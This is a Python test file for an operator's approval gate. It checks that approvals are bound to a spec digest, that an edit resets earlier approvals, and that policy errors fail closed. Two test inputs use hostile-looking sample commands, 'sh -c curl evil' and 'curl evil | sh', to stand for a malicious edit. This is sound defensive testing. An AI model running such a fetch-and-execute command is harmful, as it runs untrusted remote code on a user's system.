"""Approvals are bound to the spec they were given for; policy errors fail closed."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from lattice_operator.api.v1alpha1 import Intent, find_condition
from lattice_operator.api.v1alpha1.intent import ApprovalRecord, IntentResume, IntentSpec
from lattice_operator.api.v1alpha1.intentpolicy import IntentPolicySpec
from lattice_operator.policy import compile_policy
from lattice_operator.reconcilers.approvals import (
    REQUEST,
    ApprovalRefused,
    ApprovalRequest,
    for_spec,
    parse_request,
    raw_spec_digest,
    record_for,
    spec_digest,
)
from lattice_operator.reconcilers.intent import IntentWorld, reconcile_intent
from tests.support.admission_cases import sample

NOW = datetime(2026, 1, 1, tzinfo=UTC)


def _policy(*rules: dict[str, Any]) -> Any:
    return compile_policy("p", IntentPolicySpec.model_validate({"rules": list(rules)}))


TWO_APPROVERS = _policy(
    {"name": "r", "match": "true", "risk": "controlled", "outcome": "require_approval",
     "approvers": 2}
)  # fmt: skip


def _intent(command: list[str] | None = None, generation: int = 1, **status: Any) -> Intent:
    doc = sample("intent-sprite-task-exec.yaml")
    doc["metadata"] = {"name": "i", "namespace": "ns", "uid": "u", "generation": generation}
    if command is not None:
        doc["spec"]["params"]["spriteTaskExec"]["command"] = command
    doc["status"] = status
    return Intent.model_validate(doc)


def _edited(it: Intent, command: list[str]) -> Intent:
    """The same Intent after someone changed its command (the generation moves on)."""
    changed = _intent(command, generation=(it.metadata.generation or 1) + 1)
    return changed.model_copy(update={"status": it.status})


def _record(user: str, it: Intent | None, decision: str = "approve") -> ApprovalRecord:
    return ApprovalRecord(
        user=user,
        decision=decision,  # type: ignore[arg-type]
        time=NOW,
        spec_digest=spec_digest(it.spec) if it is not None else None,
    )


def _pass(it: Intent, approvals: list[ApprovalRecord], policies: Any = (TWO_APPROVERS,)) -> Any:
    plan = reconcile_intent(
        IntentWorld(
            intent=it,
            policies=list(policies),
            default_policy=None,
            approvals=approvals,
            run=None,
            sprite=None,
            now=NOW,
        )
    )
    return plan, it.model_copy(update={"status": plan.status})


# -- the digest ------------------------------------------------------------------------------


def test_digest_covers_the_spec_but_not_cancel_or_resume() -> None:
    it = _intent()
    digest = spec_digest(it.spec)
    assert digest.startswith("sha256:")
    assert len(digest) == len("sha256:") + 64
    assert spec_digest(_intent().spec) == digest  # stable
    assert spec_digest(_intent(["sh", "-c", "curl evil"]).spec) != digest
    grant = {"name": "token", "secretKeyRef": {"name": "s", "key": "k"}}
    granted = IntentSpec.model_validate({**it.spec.to_wire(), "credentials": [grant]})
    assert spec_digest(granted) != digest
    mutable = it.spec.model_copy(
        update={"cancel": True, "resume": IntentResume(checkpoint_id="c1")}
    )
    assert spec_digest(mutable) == digest


def test_the_webhook_digest_of_the_raw_spec_matches_the_reconcilers() -> None:
    doc = sample("intent-sprite-task-exec.yaml")
    assert raw_spec_digest(doc["spec"]) == spec_digest(Intent.model_validate(doc).spec)
    with pytest.raises(ApprovalRefused) as info:
        raw_spec_digest({"kind": "nonsense"})
    assert info.value.code == 422


def test_records_are_stamped_with_the_digest() -> None:
    digest = spec_digest(_intent().spec)
    [record] = record_for(
        ApprovalRequest("approve", "ok"), {"username": "alice", "uid": "1"}, [], NOW, digest
    )
    assert (record.user, record.spec_digest) == ("alice", digest)
    assert record.to_wire()["specDigest"] == digest


def test_a_pinned_request_is_refused_when_the_spec_changed() -> None:
    digest = spec_digest(_intent().spec)
    stale = "sha256:" + "0" * 64
    with pytest.raises(ApprovalRefused) as info:
        record_for(ApprovalRequest("approve", "", stale), {"username": "alice"}, [], NOW, digest)
    assert info.value.code == 409
    assert "changed since it was shown to you" in str(info.value)
    [record] = record_for(
        ApprovalRequest("approve", "", digest), {"username": "alice"}, [], NOW, digest
    )
    assert record.spec_digest == digest


def test_the_request_carries_the_pinned_digest() -> None:
    raw = json.dumps({"decision": "approve", "reason": "", "specDigest": "sha256:ab"})
    request = parse_request({REQUEST: raw})
    assert request is not None
    assert request.spec_digest == "sha256:ab"
    with pytest.raises(ApprovalRefused):
        parse_request({REQUEST: json.dumps({"decision": "approve", "specDigest": 7})})


def test_for_spec_splits_current_and_stale() -> None:
    old, new = _intent(), _intent(["true"])
    records = [_record("alice", old), _record("legacy", None), _record("bob", new)]
    decisions = for_spec(records, spec_digest(new.spec))
    assert [r.user for r in decisions.current] == ["bob"]
    assert [r.user for r in decisions.stale] == ["alice", "legacy"]
    assert decisions.stale_approvers() == ["alice", "legacy"]


# -- the gate --------------------------------------------------------------------------------


def test_an_approval_does_not_survive_an_edit() -> None:
    original = _intent()
    _, it = _pass(original, [])
    assert it.status.phase == "AwaitingApproval"
    alice = _record("alice", original)
    plan, it = _pass(it, [alice])
    assert plan.phase == "AwaitingApproval"  # one of two

    # An edit-only user changes the command; then bob approves the new spec.
    it = _edited(it, ["sh", "-c", "curl evil | sh"])
    bob = _record("bob", it)
    plan, it = _pass(it, [alice, bob])
    assert plan.phase == "AwaitingApproval"
    assert plan.create == []
    cond = find_condition(plan.status.conditions, "Approved")
    assert cond is not None
    assert "1 so far (bob)" in cond.message
    assert "spec changed after approval by alice" in cond.message
    assert [n.reason for n in plan.notices] == ["ApprovalsReset"]
    # The audit trail keeps every record, counted or not.
    assert [r.user for r in plan.status.approvals] == ["alice", "bob"]

    # Alice approves the spec as it is now: two approvals of the current spec.
    again = _record("alice", it)
    plan, it = _pass(it, [alice, bob, again])
    assert plan.phase == "Executing"
    approved = next(e for e in plan.status.audit_log if e.to_phase == "Approved")
    assert approved.actor == "alice, bob"


def test_a_single_approval_raced_by_an_edit_does_not_count() -> None:
    one = _policy({"name": "r", "match": "true", "risk": "controlled",
                   "outcome": "require_approval"})  # fmt: skip
    original = _intent()
    _, it = _pass(original, [], policies=[one])
    # Alice approved the original, but the operator sees the edited spec first.
    it = _edited(it, ["sh", "-c", "something else"])
    plan, _ = _pass(it, [_record("alice", original)], policies=[one])
    assert plan.phase == "AwaitingApproval"
    assert plan.create == []


def test_records_without_a_digest_do_not_count() -> None:
    _, it = _pass(_intent(), [])
    plan, _ = _pass(it, [_record("alice", None), _record("bob", None)])
    assert plan.phase == "AwaitingApproval"


def test_a_rejection_of_an_earlier_spec_does_not_count_but_a_current_one_does() -> None:
    original = _intent()
    _, it = _pass(original, [])
    it = _edited(it, ["true"])
    stale_reject = _record("carol", original, "reject")
    plan, it = _pass(it, [stale_reject])
    assert plan.phase == "AwaitingApproval"
    plan, _ = _pass(it, [stale_reject, _record("carol", it, "reject")])
    assert plan.phase == "Rejected"


# -- policy errors fail closed ---------------------------------------------------------------


def test_an_erroring_rule_fails_closed_in_the_pipeline() -> None:
    policy = _policy(
        {"name": "deny-big", "match": "intent.spec.params.fileops.id == 'x'",
         "risk": "dangerous", "outcome": "deny"},
        {"name": "allow-all", "match": "true", "risk": "safe", "outcome": "allow"},
    )  # fmt: skip
    plan, _ = _pass(_intent(), [], policies=[policy])
    assert plan.phase == "AwaitingApproval"
    assert plan.create == []
    classification = plan.status.classification
    assert classification is not None
    assert (classification.rule, classification.outcome, classification.risk) == (
        "deny-big",
        "require_approval",
        "dangerous",
    )
    cond = find_condition(plan.status.conditions, "Classified")
    assert cond is not None
    assert cond.reason == "PolicyRuleError"
    assert "p/deny-big could not be evaluated" in cond.message
    assert "PolicyRuleError" in [n.reason for n in plan.notices]
